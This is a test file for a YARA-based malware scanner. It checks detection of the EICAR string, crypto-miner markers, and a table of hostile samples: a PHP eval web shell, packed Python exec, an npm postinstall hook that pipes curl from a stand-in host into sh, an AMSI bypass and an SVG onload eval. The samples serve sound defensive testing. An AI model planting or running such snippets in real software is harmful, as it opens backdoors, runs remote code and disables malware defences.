import { expect, test } from "bun:test";
import { briefly, scanWith, targetOf } from "./target.fixture.ts";
import { createYaraScanner } from "./yara.ts";
import { BUILT_IN_RULES } from "./yara-rules.ts";

// The test file of every virus scanner, in two parts so that none finds it here.
const EICAR = ["X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD", "-ANTIVIRUS-TEST-FILE!$H+H*"].join("");
const scanner = createYaraScanner();

test("EICAR is found in its file, alone, among others and in a large one", async () => {
  const many = Object.fromEntries(Array.from({ length: 50 }, (_, i) => [`doc-${i}.md`, `text ${i}\n`.repeat(i)]));
  const large = Buffer.concat([Buffer.alloc(9 * 1024 * 1024, 7), Buffer.from(EICAR)]);
  expect(briefly(await scanWith(scanner, targetOf({ "e.txt": EICAR })))).toEqual(["eicar-test-file critical e.txt:1"]);
  expect(briefly(await scanWith(scanner, targetOf({ ...many, "z/e.txt": `\n\n${EICAR}` })))).toEqual([
    "eicar-test-file critical z/e.txt:3",
  ]);
  expect(briefly(await scanWith(scanner, targetOf({ "large.bin": large })))).toEqual([
    "eicar-test-file critical large.bin",
  ]);
});

test("a rule does not match across two files", async () => {
  const files = { "a.txt": "stratum+tcp://pool.example", "b.txt": "donate-level" };
  expect(await scanWith(scanner, targetOf(files))).toEqual([]);
  expect(briefly(await scanWith(scanner, targetOf({ "ab.txt": Object.values(files).join("\n") })))).toEqual([
    "crypto-miner high ab.txt:1",
  ]);
});

test("decoys in one file do not hide another", async () => {
  const decoys = "stratum+tcp:// donate-level\n".repeat(500);
  const found = briefly(await scanWith(scanner, targetOf({ "a.txt": decoys, "b.txt": "stratum+tcp:// xmrig" })));
  expect(found).toEqual(["crypto-miner high a.txt:1", "crypto-miner high b.txt:1"]);
});

test.each<[string, string, string]>([
  ["php-web-shell critical", "s.php", "<?php @eval($_POST['x']); ?>"],
  ["python-packed-exec critical", "s.py", "exec(zlib.decompress(base64.b64decode(b)))"],
  [
    "install-hook-runs-network-code high",
    "package.json",
    '{"scripts":{"postinstall":"curl https://x.example/i | sh"}}',
  ],
  [
    "amsi-bypass critical",
    "a.ps1",
    "[Ref].Assembly.GetType('AmsiUtils').GetField('amsiInitFailed').SetValue($null,$true)",
  ],
  ["svg-with-script medium", "a.svg", '<svg onload="eval(atob(x))"></svg>'],
])("%s", async (expected, path, content) => {
  expect(briefly(await scanWith(scanner, targetOf({ [path]: content })))).toEqual([`${expected} ${path}:1`]);
});

test("our rules only count on strings being there, because small files are scanned as one", () => {
  const conditions = [...BUILT_IN_RULES.source.matchAll(/condition:([^}]*)\}/g)].map((match) => match[1]!);
  expect(conditions.length).toBeGreaterThan(10);
  for (const condition of conditions)
    expect(condition).not.toMatch(/\b(?:not|filesize|at|in|entrypoint|none)\b|@|u?int\d/);
  expect(BUILT_IN_RULES.source.match(/severity = "(critical|high|medium|low|info)"/g)!.length).toBe(conditions.length);
});

test("an operator's rules may count on sizes and offsets, and change the version", async () => {
  const own = createYaraScanner([
    { namespace: "own", source: 'rule tiny { strings: $a = "abc" condition: $a at 0 and filesize < 10 }' },
  ]);
  expect(own.version).not.toBe(scanner.version);
  expect(briefly(await scanWith(own, targetOf({ "a.md": "abc", "b.md": "xabc", "c.md": "abc".repeat(9) })))).toEqual([
    "tiny high a.md:1",
  ]);
});

test("rules that do not compile are an error, never a clean result", async () => {
  const broken = createYaraScanner([{ namespace: "own", source: "rule x { condition: nonsense }" }]);
  await expect(scanWith(broken, targetOf({ "a.md": "a" }))).rejects.toThrow();
});

test("so many scans wear an instance out", async () => {
  const fresh = createYaraScanner([], 3);
  for (const worn of [false, false, true]) {
    await scanWith(fresh, targetOf({ "a.md": "a" }));
    expect(fresh.worn()).toBe(worn);
  }
});
